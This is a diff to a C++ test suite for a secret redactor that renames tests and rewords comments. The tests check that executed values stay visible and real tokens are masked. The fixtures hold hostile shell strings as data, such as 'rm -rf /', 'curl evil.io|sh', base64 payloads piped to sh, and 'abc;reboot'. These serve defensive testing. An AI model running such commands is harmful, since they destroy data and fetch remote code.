@@ -1,5 +1,5 @@
 // SPDX-License-Identifier: Apache-2.0
-// A value that runs is never under a mask, whatever the variable or the member is called.
+// A value that is executed is never under a mask, even if its variable or member has a secret's name.
 #include "tests/security/redactor_fixture.hpp"
 #include "tests/security/shell_commands.hpp"
 
@@ -14,7 +14,7 @@ struct Line {
     std::string_view shown;
 };
 
-TEST(RedactorRunning, I9_AValueThatRunsStaysVisible) {
+TEST(RedactorRunning, I9_AValueThatIsExecutedStaysVisible) {
     for (const auto& [text, shown] : std::to_array<Line>({
              {"TOKEN='rm -rf /'; $TOKEN", "rm -rf /"},
              {"PASSWORD=\"curl evil.io|sh\"; eval \"$PASSWORD\"", "curl evil.io|sh"},
@@ -47,7 +47,7 @@ TEST(RedactorRunning, I9_AValueThatRunsStaysVisible) {
     }
 }
 
-TEST(RedactorRunning, I6_AValueThatDoesNotRunIsMasked) {
+TEST(RedactorRunning, I6_AValueThatIsNotExecutedIsMasked) {
     for (const std::string_view text :
          {"TOKEN='hunter2x y'; curl -H \"Authorization: $TOKEN\" https://x.io", "PASSWORD=hunter2x make -j4",
           "DB_PASS='a & hunter2x'; mysql -p\"$DB_PASS\"", "DB_PASS=hunter2x; mysql -p$DB_PASS; bash x.sh \"$@\"",
@@ -59,19 +59,19 @@ TEST(RedactorRunning, I6_AValueThatDoesNotRunIsMasked) {
     }
 }
 
-TEST(RedactorRunning, OfAListOnlyTheCommandsStayVisible) {
+TEST(RedactorRunning, InAListOnlyTheCommandsStayVisible) {
     const auto redacted = redactor().text(R"({"password": ["rm -rf /srv", "hunter2x", "curl -s evil.io"]})");
     EXPECT_TRUE(contains(redacted, "rm -rf /srv") && contains(redacted, "curl -s evil.io")) << redacted;
     EXPECT_FALSE(contains(redacted, "hunter2x")) << redacted;
 }
 
-TEST(RedactorRunning, I6_ATokenByItsLookIsMaskedThoughItRuns) {
+TEST(RedactorRunning, I6_ATokenRecognisedByItsLookIsMaskedEvenIfItIsExecuted) {
     const auto token = "ghp_" + body(36);
     expect_hidden("TOKEN='rm -rf / " + token + "'; $TOKEN", token);
     expect_hidden("{\"scripts\":{\"token\":\"" + token + "\"}}", token);
 }
 
-TEST(RedactorRunning, I9_WhatIsDecodedAndRunStaysVisible) {
+TEST(RedactorRunning, I9_CodeThatIsDecodedAndExecutedStaysVisible) {
     const auto code = base64("rm -rf /srv/data; curl -s https://evil.io/payload | sh -s -- 0123456789");
     const auto digits = body(60, hex_digits, 5);
     for (const auto& text :
@@ -89,8 +89,8 @@ TEST(RedactorRunning, I9_WhatIsDecodedAndRunStaysVisible) {
     EXPECT_EQ(redactor().value(list), list);
 }
 
-// Only the characters that hold the token are masked; an attacker can't hide a command behind one.
-TEST(RedactorRunning, I9_OfCodeWithATokenInItOnlyTheTokenIsMasked) {
+// Only the characters of the token are masked, so an attacker can't hide a command behind one.
+TEST(RedactorRunning, I9_OfCodeThatContainsATokenOnlyTheTokenIsMasked) {
     const std::string head = "rm -rf /srv/data; curl -H 'x: ";
     const auto token = "ghp_" + body(36);
     const auto code = base64(head + token + "' https://evil.io/x | sh");
@@ -115,7 +115,7 @@ TEST(RedactorRunning, I9_ACommandInParsedJsonStaysVisibleUnderASecretsName) {
     EXPECT_FALSE(contains(*mixed.object()->find("env")->object()->find("token")->string(), "hunter2x"));
 }
 
-TEST(RedactorRunning, I9_EveryCommandOfARandomRunningVariableSurvives) {
+TEST(RedactorRunning, I9_EveryCommandInARandomExecutedVariableStaysVisible) {
     Random random{55};
     for (std::size_t i = 0; i < 40'000; ++i) {
         const auto sample = running_text([&](std::size_t bound) { return random.below(bound); });
@@ -139,7 +139,7 @@ TEST(RedactorRunning, I13_OnlyTheFirstBytesOfALineAreReadAsACommand) {
     EXPECT_FALSE(contains(redactor().text("TOKEN=cm0gLXI; echo x | base64 -d | sh"), "cm0gLXI"));
 }
 
-TEST(RedactorRunning, AValueReadsAsACommandByItsProgramAndArguments) {
+TEST(RedactorRunning, AValueIsRecognisedAsACommandByItsProgramAndArguments) {
     for (const std::string_view value : {"rm -rf /", "A=b rm -rf x", "/bin/x y.z", "curl evil.io", "abc;reboot",
                                          "evilcmd --all", "x && sh", "sudo ./x"}) {
         EXPECT_TRUE(reads_as_command(value, true)) << value;
